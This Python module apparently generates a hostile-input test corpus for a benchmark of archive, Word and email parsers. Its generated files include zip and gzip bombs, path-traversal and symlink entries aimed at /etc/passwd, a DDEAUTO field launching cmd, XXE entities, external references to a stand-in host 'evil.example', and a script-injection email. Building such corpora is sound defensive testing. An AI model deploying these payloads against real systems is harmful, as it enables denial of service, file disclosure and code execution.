"""Files that hold files, and Word files and mails: bombs, depths, names that lead elsewhere, references to elsewhere."""

from __future__ import annotations

import base64
import gzip
import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

from benchmarks.hostile.files import docx, zipped

_SAID = "Minister Quist met Minister Oyelaran. They spoke of kelp."
_OUT = "http://evil.example/x"


def packages(size: int) -> Iterator[tuple[str, bytes]]:
    """Every file, by its name."""
    for make in (_zips, _gzips, _word, _mails):
        yield from make(size)


def _zips(size: int) -> Iterator[tuple[str, bytes]]:
    said = _SAID.encode()
    yield "zeros.zip", zipped({"a.txt": b"\0" * 300_000_000, "kelp.txt": said})
    yield "words.zip", zipped({f"{n}.txt": b"a " * 8_000_000 for n in range(4)})
    inner = zipped({"a.txt": said})
    for _ in range(6):
        inner = zipped({"a.zip": inner})
    yield "nested.zip", inner
    inner = zipped({"a.txt": b"a " * 4_000_000})
    for _ in range(2):
        inner = zipped({f"{n}.zip": inner for n in range(12)})
    yield "nested-wide.zip", inner
    yield "members.zip", zipped({f"{n}.png": b"" for n in range(min(size, 25_000))})
    yield "overlapping.zip", _overlapping(2_000)
    names = (
        "../../kelp.txt",
        "/etc/kelp.txt",
        "..\\kelp.txt",
        "a/../../b.txt",
        "C:\\kelp.txt",
        "\x1b[31m.txt",
        "a\nb.txt",
        "\u202etxt.exe",
        "x" * 5000 + ".txt",
        "-n.txt",
        " .txt",
        "a//b.txt",
        ".txt",
    )
    yield "names.zip", zipped({name: said + name.encode() for name in names})
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("kelp.txt", said)
    yield "link.zip", out.getvalue()
    whole = zipped({"a.txt": said * 99, "b.txt": said})
    yield "size-lies.zip", whole.replace(struct.pack("<L", len(said * 99)), struct.pack("<L", 9))
    yield "size-lies-more.zip", whole.replace(struct.pack("<L", len(said * 99)), struct.pack("<L", 0x0FFFFFFF))
    yield "check-wrong.zip", whole.replace(struct.pack("<L", zlib.crc32(said)), b"\1\2\3\4")
    yield "encrypted.zip", whole.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01")
    yield "cut.zip", whole[: len(whole) // 2]
    yield "end-alone.zip", b"PK\x05\x06" + b"\xff" * 18
    yield "comment.zip", whole[:-2] + struct.pack("<H", 65535) + b"PK\x05\x06" * 16000
    yield "itself.zip", b"PK\x03\x04" * size


def _overlapping(count: int) -> bytes:
    """Many entries that all are the same bytes of the file."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"They met. " * 100_000)
        first = archive.infolist()[0]
        for n in range(count):
            copy = zipfile.ZipInfo(f"{n}.txt")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(copy, name, getattr(first, name))
            archive.filelist.append(copy)
            archive.NameToInfo[copy.filename] = copy
    return out.getvalue()


def _gzips(size: int) -> Iterator[tuple[str, bytes]]:
    said = _SAID.encode()
    yield "zeros.txt.gz", gzip.compress(b"\0" * 300_000_000, 9)
    inner = said
    for _ in range(8):
        inner = gzip.compress(inner)
    yield "nested.gz", inner
    yield "members.txt.gz", gzip.compress(b"") * size + gzip.compress(said)
    yield "rest.txt.gz", gzip.compress(said) + b"rest" * 99
    yield "cut.txt.gz", gzip.compress(said * 99)[:40]
    yield "check-wrong.txt.gz", gzip.compress(said)[:-8] + b"\0" * 8
    yield "named.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\x03../../etc/passwd\0" + gzip.compress(said)[10:]
    yield "tar.tar.gz", gzip.compress(b"a/../../x" + b"\0" * 1000)
    yield "lines.csv.gz", gzip.compress(b"title,text\n" + b"a,They met of kelp.\n" * 2000)


def _word(size: int) -> Iterator[tuple[str, bytes]]:
    said = f"<w:p><w:r><w:t>{_SAID}</w:t></w:r></w:p>"
    rel = f'Id="r1" Type="attachedTemplate" Target="{_OUT}" TargetMode="External"'
    rels = f"<Relationships><Relationship {rel}/></Relationships>"
    yield (
        "external.docx",
        docx(
            said + '<w:altChunk r:id="r1"/>',
            members={"word/_rels/document.xml.rels": rels.encode(), "word/_rels/settings.xml.rels": rels.encode()},
        ),
    )
    runs = ('DDEAUTO c:\\\\cmd "/k calc"', f'INCLUDETEXT "{_OUT}"')
    words = "".join(f"<w:r><w:fldChar/><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    field = f"<w:p>{words}</w:p>"
    yield "field.docx", docx(said + field)
    yield (
        "entity.docx",
        docx(f"<w:p><w:r><w:t>&a;</w:t></w:r></w:p>{said}", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"),
    )
    yield "entity-late.docx", docx(said, f"<!--{' ' * 5000}--><!DOCTYPE x [<!ENTITY a 'ha'>]>")
    yield "bomb.docx", docx("<w:p/>" * 12_000_000)
    yield "bomb-read.docx", docx("<w:p><w:r><w:t>a.</w:t></w:r></w:p>" * 1_000_000)
    yield "paragraphs-empty.docx", docx(f"{'<w:p/>' * size}{said}")
    yield "deep-tables.docx", docx("<w:tbl><w:tr><w:tc>" * 80 + said + "</w:tc></w:tr></w:tbl>" * 80)
    yield "deep.docx", docx("<w:p><w:r>" * size)
    yield (
        "cells.docx",
        docx(f"<w:tbl><w:tr>{'<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>' * size}</w:tr></w:tbl>{said}"),
    )
    yield "runs.docx", docx(f"<w:p>{'<w:r><w:t>kelp </w:t></w:r>' * size}</w:p>")
    yield "no-body.docx", zipped({"word/document.xml": b"<x/>", "[Content_Types].xml": b""})
    yield (
        "macros.docx",
        docx(said, members={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99, "word/embeddings/a.bin": b"MZ"}),
    )
    core = f"<c xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>{'kelp ' * size}</dc:title></c>"
    yield "title-long.docx", docx(said, members={"docProps/core.xml": core.encode()})
    yield "notes.docx", docx(said, members={"word/footnotes.xml": b"<x>" * size})


def _mails(size: int) -> Iterator[tuple[str, bytes]]:
    head = "Subject: Kelp\nDate: Thu, 18 May 2023 10:00:00 +0000\nMIME-Version: 1.0\n"
    deep = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(300))
    yield "deep-parts.eml", f"{head}{deep}Content-Type: text/plain\n\n{_SAID}".encode()
    deeper = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(min(size, 3000)))
    yield "deeper-parts.eml", f"{head}{deeper}Content-Type: text/plain\n\n{_SAID}".encode()
    yield "deep-mails.eml", (f"{head}Content-Type: message/rfc822\n\n" * 900 + f"{head}\n{_SAID}").encode()
    part = "--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename=a.txt\n\nThey met.\n"
    mixed = f'{head}Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\n{_SAID}\n'
    yield "parts.eml", f"{mixed}{part * min(size, 20_000)}--b--\n".encode()
    many = "X-A: b\n" * size
    yield "headers.eml", f"{head}{many}\n{_SAID}".encode()
    yield "header-long.eml", f"{head}To: {', '.join(f'a{n}@b.c' for n in range(size))}\n\n{_SAID}".encode()
    yield "subject-long.eml", f"Subject: {'kelp ' * size}\n\n{_SAID}".encode()
    yield "subject-folded.eml", f"Subject: {'=?utf-8?q?=1b=5b31m?= ' * 999}\n\n{_SAID}".encode()
    yield "charset.eml", f"{head}Content-Type: text/plain; charset=hex\n\n{_SAID}".encode()
    yield "charset-unknown.eml", f"{head}Content-Type: text/plain; charset=\x1b[31m\n\n{_SAID}".encode()
    for name in ("../../etc/passwd", "/etc/cron.d/x", "a\x1b[31m.txt", "=?utf-8?b?4oCuLnR4dA==?=", "x" * 999 + ".txt"):
        odd = f'--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="{name}"\n\n{_SAID}\n--b--\n'
        yield f"attached-{zlib.crc32(name.encode())}.eml", f"{mixed}{odd}".encode()
    bomb = base64.encodebytes(zipped({"a.txt": b"\0" * 300_000_000})).decode()
    said = "Content-Disposition: attachment; filename=a.zip\nContent-Transfer-Encoding: base64"
    packed = f"--b\nContent-Type: application/zip\n{said}\n\n{bomb}\n--b--\n"
    yield "bomb.eml", f"{mixed}{packed}".encode()
    page = f"<img src={_OUT}><script>alert(1)</script><p>{_SAID}</p>"
    yield "page.eml", f"{head}Content-Type: text/html\n\n{page}{'<div>' * size}".encode()
    yield (
        "quoted.eml",
        f"{head}Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n{'=1b=5b31m' * size}{_SAID}".encode(),
    )
    yield "no-date.eml", f"Subject: x\nDate: {'9' * 4000}\n\n{_SAID}".encode()
